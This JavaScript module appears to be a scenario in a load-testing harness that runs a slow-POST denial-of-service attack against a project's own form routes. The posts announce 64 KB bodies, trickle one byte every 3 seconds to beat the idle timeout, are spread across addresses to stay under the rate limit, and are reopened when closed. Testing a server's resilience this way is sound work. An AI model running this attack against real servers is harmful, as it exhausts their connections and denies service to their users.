// The announced-length attack: posts to the form routes that announce a whole body (the routes'
// 64 KB limit) and send a few bytes of it, then a byte every few seconds, from several addresses,
// each keeping within the submission rate limit. Whatever the server does with such a post
// (holds it, answers it, closes it), the attacker opens another in its place a little later.
import { attackAddresses, connect, hangUp, requestHead, trickle } from './wire.mjs';

/** Often enough that the server's 30 s idle timeout never closes an open post. */
const TRICKLE_MS = 3_000;
/** How long an attacker waits before it replaces a post the server ended. */
const REOPEN_MS = 3_000;
/** The form routes that take a JSON body of up to FORM_BODY_LIMIT (src/server/forms/form-parsers.ts). */
const ROUTES = [
  '/api/contact',
  '/api/contact/omr',
  '/api/contact/technology',
  '/api/events',
  '/api/newsletter/subscribe',
];
const FIRST_BYTES = '{"name":"';

export const announcedLength = {
  name: 'announced-length',
  defaults: { posts: 160, addresses: 8, seconds: 40, announcedKb: 64 },
  summary: ({ posts, addresses, announcedKb }) => ({
    posts,
    announcedBytes: announcedKb * 1024,
    firstBytes: FIRST_BYTES.length,
    trickleSeconds: TRICKLE_MS / 1000,
    reopenSeconds: REOPEN_MS / 1000,
    routes: ROUTES,
    addresses: attackAddresses(addresses),
  }),
  describe: ({ posts, announcedKb }) =>
    `${posts} JSON posts held open on ${ROUTES.join(', ')}, each announcing Content-Length ${announcedKb * 1024} ` +
    `and sending ${FIRST_BYTES.length} bytes, then a byte every ${TRICKLE_MS / 1000} s; one the server ends is replaced ${REOPEN_MS / 1000} s later`,
  start({ port, settings, isDead }) {
    const addresses = attackAddresses(settings.addresses);
    const claimed = settings.announcedKb * 1024;
    const attackers = [];
    let over = false;
    const reopenTimers = new Set();
    const open = (route, localAddress) => {
      const sent = requestHead(port, route, 'application/json', claimed) + FIRST_BYTES;
      const attacker = connect({ port, kind: 'posts', route, localAddress, sent, left: claimed - FIRST_BYTES.length });
      attackers.push(attacker);
      void attacker.done.then(() => {
        if (over || isDead()) return;
        const timer = setTimeout(() => {
          reopenTimers.delete(timer);
          if (!over && !isDead()) open(route, localAddress);
        }, REOPEN_MS);
        reopenTimers.add(timer);
      });
    };
    for (let i = 0; i < settings.posts; i += 1) open(ROUTES[i % ROUTES.length], addresses[i % addresses.length]);
    const trickleTimer = setInterval(() => trickle(attackers, 1, 'x'), TRICKLE_MS);
    return {
      async stop() {
        over = true;
        clearInterval(trickleTimer);
        for (const timer of reopenTimers) clearTimeout(timer);
        return {
          outcomes: hangUp(attackers, () => 'posts'),
          connectionsOpened: attackers.length,
        };
      },
    };
  },
};
